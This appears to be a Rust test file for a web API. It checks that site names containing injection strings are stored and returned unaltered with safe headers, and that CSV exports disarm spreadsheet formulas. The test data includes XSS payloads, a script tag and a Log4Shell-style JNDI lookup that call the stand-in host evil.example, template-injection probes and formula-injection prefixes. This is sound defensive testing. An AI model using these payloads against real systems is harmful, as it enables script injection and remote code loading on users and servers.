//! Markup, templates and formulas in what people name: kept as text, shown as text, and no formula in a spreadsheet.

use lineshift_testkit::app::TestApp;
use lineshift_testkit::http::send;
use reqwest::Method;
use serde_json::json;

const MARKS: [&str; 12] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</title><script src=//evil.example></script>",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% debug %}",
    "${jndi:ldap://evil.example/a}",
    "%s%s%n",
    "javascript:alert(1)",
];

#[tokio::test]
async fn markup_and_templates_come_back_as_they_were_written() {
    let app = TestApp::with_lines(1).await;
    let admin = app.admin().await;
    for mark in MARKS {
        let made = admin.post("/api/v1/sites", &json!({"name": mark})).await;
        assert_eq!(made.status, 201, "{mark}: {}", made.text());
        let read = admin.get(&format!("/api/v1/sites/{}", made.json()["id"])).await;
        assert_eq!(read.json()["name"], mark, "neither run nor altered");
        for answer in [&made, &read] {
            // A browser shows it as the data that it is, whatever stands in it.
            assert_eq!(answer.header("content-type"), "application/json");
            assert_eq!(answer.header("x-content-type-options"), "nosniff");
            assert!(answer.header("content-security-policy").starts_with("default-src 'none'"));
        }
        // What is refused is told with what was given; that is data, too.
        let encoded: String = mark.bytes().map(|byte| format!("%{byte:02x}")).collect();
        for path in [format!("/api/v1/sites?{encoded}=1"), format!("/api/v1/devices?after={encoded}"), format!("/{encoded}")] {
            let refused = admin.get(&path).await;
            assert!((400..500).contains(&refused.status), "{path}: {}", refused.status);
            assert_eq!(refused.header("content-type"), "application/problem+json", "{path}");
            assert_eq!(refused.header("x-content-type-options"), "nosniff", "{path}");
        }
    }
}

/// What spreadsheets take for the beginning of a formula.
const FORMULAS: [&str; 9] = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\u{ff1d}1+1", "\u{ff0b}1", "\u{ff20}SUM(1)"];

/// The cells of a CSV, those of the first line left out.
fn cells(text: &str) -> Vec<String> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    reader.records().flat_map(|record| record.expect("a record").iter().map(str::to_owned).collect::<Vec<_>>()).collect()
}

#[tokio::test]
async fn no_cell_of_an_export_is_a_formula() {
    let app = TestApp::with_lines(1).await;
    let admin = app.admin().await;
    let body = json!({"ServiceProviderId": app.operator.jasper.0, "SiteId": app.operator.amop_site.0, "Devices": FORMULAS});
    let made = admin.post("/M2M/AssociateCustomer", &body).await;
    assert_eq!(made.status, 202, "{}", made.text());
    app.operator.run_until_idle().await;
    // Who asks says with what; that stands in the audit log.
    for formula in FORMULAS {
        let request = admin.request(Method::POST, "/api/v1/sites").json(&json!({"name": "A site"}));
        let can_be_said = reqwest::header::HeaderValue::from_str(formula).is_ok();
        send(if can_be_said { request.header("user-agent", formula) } else { request }).await;
        let (named, _) = app.of_tenant(app.operator.tenant(), formula, "admin:view admin:edit").await;
        named.post("/api/v1/sites", &json!({"name": "Another"})).await;
    }
    for path in ["/api/v1/bulk-changes/1/export", "/api/v1/audit/export?format=csv"] {
        let answer = admin.get(path).await;
        assert_eq!(answer.status, 200, "{path}: {}", answer.text());
        assert!(answer.header("content-disposition").starts_with("attachment"), "{path} is saved, not shown");
        let cells = cells(&answer.text());
        let is_formula = |cell: &&String| {
            cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'])
        };
        assert_eq!(cells.iter().find(is_formula), None, "{path}");
        for formula in ["'=1+1", "'\u{ff1d}1+1"] {
            assert!(cells.iter().any(|cell| cell == formula), "{path} tells it, disarmed: {cells:?}");
        }
    }
}
